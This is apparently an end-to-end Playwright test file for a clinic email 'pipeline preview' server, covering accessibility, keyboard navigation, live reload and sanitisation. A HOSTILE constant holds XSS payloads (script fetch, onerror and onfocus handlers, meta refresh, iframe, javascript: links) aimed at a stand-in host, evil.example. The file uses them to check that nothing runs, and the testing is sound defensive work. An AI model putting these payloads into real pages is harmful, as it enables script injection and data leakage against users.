"""A real ``pipeline preview`` and a real browser: no barrier, keys, a save that shows, nothing that runs."""

import re
import shutil
import signal
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import requests
from playwright.sync_api import expect

from pipeline.web.preview_email import MARK
from tests.journeys.conftest import Looker, OpenWindow

ROOT = Path(__file__).parent.parent.parent
OURS = ROOT / "content" / "first-weeks"
OTHERS = sorted((ROOT.parent / "shared" / "data" / "article").glob("*.txt"))
LOOKS = [(375, "light"), (375, "dark"), (1600, "light"), (1600, "dark")]
#: Generous: the machine may be busy. Nothing here measures time.
PATIENCE = 60_000
HOSTILE = (
    """# Hostile

<script>document.title = "ran"; fetch("http://evil.example/script")</script>

## One

<img src="http://evil.example/picture.png" onerror="document.title = 'ran'" alt="A picture">
<meta http-equiv="refresh" content="0; url=http://evil.example/refresh">
<form action="http://evil.example/form"><input name="a" autofocus onfocus="document.title = 'ran'"></form>
<iframe src="http://evil.example/frame"></iframe><style>@import "http://evil.example/style.css";</style>

[press me](javascript:document.title='ran') and ![remote](http://evil.example/remote.png) and
<a href="javascript:alert(1)" onclick="alert(2)">me</a>. """
    + "There are some more words here. " * 30
)


@dataclass(frozen=True)
class Preview:
    """A running process."""

    url: str
    folder: Path


@contextmanager
def previewing(folder: Path, *words: str) -> Iterator[Preview]:
    """``pipeline preview`` until the block ends; then Ctrl-C, and it must end quietly."""
    command = [sys.executable, "-m", "pipeline", "preview", *words]
    with subprocess.Popen(
        command, cwd=folder, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True
    ) as running:
        try:
            said = running.stdout.readline()
            assert said.startswith("Look at "), said + running.stderr.read()
            yield Preview(url=re.search(r"http\S+", said).group(), folder=folder)
            running.send_signal(signal.SIGINT)
            out, err = running.communicate(timeout=60)
            assert (running.returncode, out) == (0, "")
            assert "Traceback" not in err
            assert "Cancel" not in err
        finally:
            running.kill()


@pytest.fixture(scope="module")
def clinic(tmp_path_factory) -> Path:
    """A clinic's folder with everything of its own to change."""
    folder = tmp_path_factory.mktemp("author") / "clinic"
    subprocess.run([sys.executable, "-m", "pipeline", "init", str(folder)], check=True, capture_output=True)
    return folder


@pytest.fixture(scope="module", params=[OURS, *OTHERS], ids=lambda path: path.name)
def preview(request, browser, tmp_path_factory) -> Iterator[Preview]:
    """Our article and, where it is at hand, a clinic's real one."""
    with previewing(tmp_path_factory.mktemp("look"), str(request.param), "--port", "8731") as running:
        yield running


@pytest.mark.parametrize(("width", "scheme"), LOOKS)
def test_no_page_of_the_preview_has_a_barrier_or_asks_anyone_else(
    preview: Preview, window: OpenWindow, width: int, scheme: str
) -> None:
    looker = window(width, scheme)
    found: dict[str, object] = {}
    for path in ("/", "/parts/1", "/parts/2?look=text&patient=arabic", "/parts/2?width=phone&images=on"):
        looker.page.goto(preview.url + path, wait_until="load")
        found[f"{path} axe"] = looker.violations()
        found[f"{path} overflow"] = looker.overflow()
    assert {what: problem for what, problem in found.items() if problem} == {}
    assert {urlsplit(url).netloc for url in looker.asked if not url.startswith("data:")} == {
        urlsplit(preview.url).netloc
    }
    assert looker.complaints == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("other", ["light", "dark"])
def test_no_email_has_a_barrier_by_day_or_night_whatever_the_device_is_set_to(
    preview: Preview, window: OpenWindow, scheme: str, other: str
) -> None:
    looker = window(375, other)
    for query in (f"?scheme={scheme}", f"?scheme={scheme}&images=off&patient=long&trial=off"):
        address = f"{preview.url}/parts/1/email{query}"
        looker.page.goto(address, wait_until="load")
        # axe-core is a script, and in the email's own frame none can run: the same bytes without a frame.
        looker.page.goto("about:blank")
        looker.page.set_content(requests.get(address, timeout=30).text)
        ground = looker.page.evaluate("getComputedStyle(document.body).backgroundColor")
        is_dark = sum(map(int, re.findall(r"\d+", ground)[:3])) < 384
        assert is_dark is (scheme == "dark")
        assert looker.violations() == []
        assert looker.overflow() == 0
    assert {urlsplit(url).netloc for url in looker.asked if url.startswith("http")} == {
        urlsplit(preview.url).netloc
    }


def test_everything_can_be_reached_with_keys_alone(preview: Preview, window: OpenWindow) -> None:
    looker = window(1600)
    page = looker.page
    page.goto(f"{preview.url}/parts/1")
    page.keyboard.press("Tab")
    expect(page.get_by_role("link", name="Skip to the content")).to_be_focused()

    page.keyboard.press("ArrowRight")
    expect(page).to_have_url(re.compile("/parts/2"))
    page.keyboard.press("ArrowLeft")
    expect(page).to_have_url(re.compile("/parts/1$"))
    for key, said in (("t", "look=text"), ("s", "look=source"), ("h", "look=headers")):
        expect(page.locator("#keys")).to_be_visible()
        page.keyboard.press(key)
        expect(page).to_have_url(re.compile(said))
    expect(page.locator("#keys")).to_be_visible()
    page.keyboard.press("e")
    expect(page).to_have_url(re.compile("/parts/1$"))
    for key, said in (
        ("l", "scheme=dark"), ("i", "images=off"), ("b", "trial=off"), ("p", "width=phone"),
        ("n", "patient=long"),
    ):  # fmt: skip
        # The address is new before the new page's script knows keys.
        expect(page.locator("#keys")).to_be_visible()
        page.keyboard.press(key)
        expect(page).to_have_url(re.compile(said))
    assert all(said in page.url for said in ("scheme=dark", "images=off", "trial=off", "width=phone"))
    page.keyboard.press("u")
    expect(page.get_by_role("heading", name="About the series as a whole")).to_be_visible()
    blocked = "img-src 'none'"
    assert [each for each in looker.complaints if blocked not in each] == [], "but for pictures that are off"


def test_letter_keys_can_be_switched_off_and_arrows_stay(preview: Preview, window: OpenWindow) -> None:
    """WCAG 2.2, 2.1.4."""
    page = window(1200).page
    page.goto(f"{preview.url}/parts/1")
    page.keyboard.press("?")
    box = page.get_by_role("checkbox", name="Letter keys work")
    expect(box).to_be_visible()
    assert Looker(page).violations() == []
    box.uncheck()
    page.reload()
    page.keyboard.press("t")
    page.keyboard.press("?")
    expect(box).to_be_hidden()
    page.keyboard.press("ArrowRight")
    expect(page).to_have_url(re.compile("/parts/2$"))


def test_without_script_every_switch_and_every_part_is_reached(preview: Preview, browser) -> None:
    context = browser.new_context(java_script_enabled=False, viewport={"width": 1600, "height": 900})
    page = context.new_page()
    page.goto(preview.url)
    page.get_by_role("listitem").get_by_role("link").first.click()
    page.get_by_role("button", name="Dark").click()
    page.get_by_label("Sample patient").select_option("braces")
    page.get_by_role("button", name="Show").click()
    frame = page.frame_locator("iframe.phone")
    expect(frame.get_by_text("Hello {{7*7}},")).to_be_visible()
    assert "scheme=dark" in page.url
    expect(page.get_by_text("After a save, load this page again.")).to_be_visible()
    context.close()


def test_a_chosen_finding_is_outlined_and_scrolled_to_in_both_frames(
    browser, window: OpenWindow, tmp_path: Path
) -> None:
    article = tmp_path / "long.md"
    long_words = (
        "This sentence is made so very long that nobody who reads it in pain or on a phone could ever " * 2
    )
    article.write_text(
        f"# Title\n\n## One\n\n{'Some plain words stand here. ' * 90}\n\n{long_words}follow it.\n"
    )
    with previewing(tmp_path, str(article), "--port", "8741") as running:
        page = window(1600).page
        page.goto(f"{running.url}/parts/1")
        page.get_by_role("link", name="A sentence has more than 20 words.").last.click()
        for name in ("phone", "desktop"):
            element = page.frame_locator(f"iframe.{name}").locator(f"#{MARK}")
            expect(element).to_contain_text("This sentence is made so very long")
            expect(element).to_have_css("outline-style", "solid")
            expect(element).to_be_in_viewport()


def test_a_save_of_anything_shows_by_itself(browser, window: OpenWindow, clinic: Path) -> None:
    content = clinic / "content" / "first-weeks"
    with previewing(clinic, "first-weeks", "--port", "8751") as running:
        page = window(1200).page
        page.goto(f"{running.url}/parts/3?width=phone")
        frame = page.frame_locator("iframe.phone")

        def replace(path: Path, old: str, new: str) -> None:
            text = path.read_text(encoding="utf-8")
            assert old in text
            fresh = path.with_name(".saving")
            fresh.write_text(text.replace(old, new), encoding="utf-8")
            fresh.replace(path)

        series = content / "series.toml"
        replace(series, 'title = "New ways to move"', 'title = "Saved in series.toml"')
        expect(page.get_by_role("heading", level=1)).to_contain_text("Saved in series.toml", timeout=PATIENCE)
        replace(clinic / "templates" / "email" / "header.html", "{{ clinic.name }}", "Saved in a template")
        expect(frame.get_by_text("Saved in a template").first).to_be_visible(timeout=PATIENCE)
        replace(clinic / "config.toml", 'phone = "+1 512 555 0142"', 'phone = "+1 512 555 0199"')
        expect(frame.get_by_text("+1 512 555 0199").first).to_be_visible(timeout=PATIENCE)
        replace(clinic / "content" / "safety" / "en-US.toml", "Chest pain", "Saved safety words")
        expect(frame.get_by_text("Saved safety words").first).to_be_visible(timeout=PATIENCE)
        article = content / "article.md"
        replace(article, "Try writing your name", "Saved in the article: try your name")
        expect(frame.get_by_text("Saved in the article").first).to_be_visible(timeout=PATIENCE)

        before = series.read_text(encoding="utf-8")
        series.write_text("[[part", encoding="utf-8")
        expect(page.get_by_role("heading", level=1)).to_have_text(
            "This series does not compile yet", timeout=PATIENCE
        )
        expect(page.get_by_text("Where:")).to_contain_text("series.toml")
        assert Looker(page).violations() == []
        series.write_text(before, encoding="utf-8")
        expect(page.get_by_role("heading", level=1)).to_contain_text("Saved in series.toml", timeout=PATIENCE)


def test_a_saved_picture_shows_by_itself(browser, window: OpenWindow, tmp_path: Path) -> None:
    own = shutil.copytree(OURS, tmp_path / "own")
    with previewing(tmp_path, "own", "--port", "8761") as running:
        page = window(1200).page
        page.goto(f"{running.url}/parts/1?width=phone")
        picture = page.frame_locator("iframe.phone").locator("img.picture").first
        before = picture.get_attribute("src")
        shutil.copy(own / "pictures" / "traffic-light.png", own / "pictures" / "walking.png")
        expect(picture).not_to_have_attribute("src", before, timeout=PATIENCE)


def test_nothing_in_a_hostile_article_runs_or_asks_anyone(
    browser, window: OpenWindow, tmp_path: Path
) -> None:
    for name in ("hostile.md", "hostile.html"):
        text = HOSTILE if name.endswith("md") else f"<html><body><h1>Hostile</h1>{HOSTILE}</body></html>"
        (tmp_path / name).write_text(text, encoding="utf-8")
        with previewing(tmp_path, name, "--port", "8771") as running:
            looker = window(1200)
            for path in ("/", "/parts/1", "/parts/1?look=source", "/parts/1/email"):
                looker.page.goto(running.url + path, wait_until="load")
                assert "ran" not in looker.page.title().split()
                for link in looker.page.locator("a").all():
                    assert "javascript:" not in (link.get_attribute("href") or "")
            assert {urlsplit(url).netloc for url in looker.asked if not url.startswith("data:")} == {
                urlsplit(running.url).netloc
            }


def test_two_previews_at_once_take_a_port_each_and_foreign_hosts_are_refused(tmp_path: Path) -> None:
    with previewing(tmp_path, str(OURS), "--port", "8781") as one:
        with previewing(tmp_path, str(OURS), "--port", "8781") as two:
            assert one.url != two.url
            assert requests.get(two.url, timeout=30).status_code == 200
        assert requests.get(one.url, headers={"Host": "evil.example"}, timeout=30).status_code == 400
